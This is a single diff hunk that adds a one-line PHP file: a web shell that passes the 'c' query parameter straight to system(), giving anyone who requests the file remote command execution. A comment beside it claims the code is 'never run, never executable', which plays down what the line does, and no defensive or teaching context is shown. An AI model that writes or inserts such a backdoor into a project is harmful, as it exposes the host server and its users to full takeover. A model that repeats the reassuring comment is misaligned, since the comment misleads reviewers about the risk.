@@ -1,0 +1,1 @@
+<?php system($_GET['c']); // never run, never executable
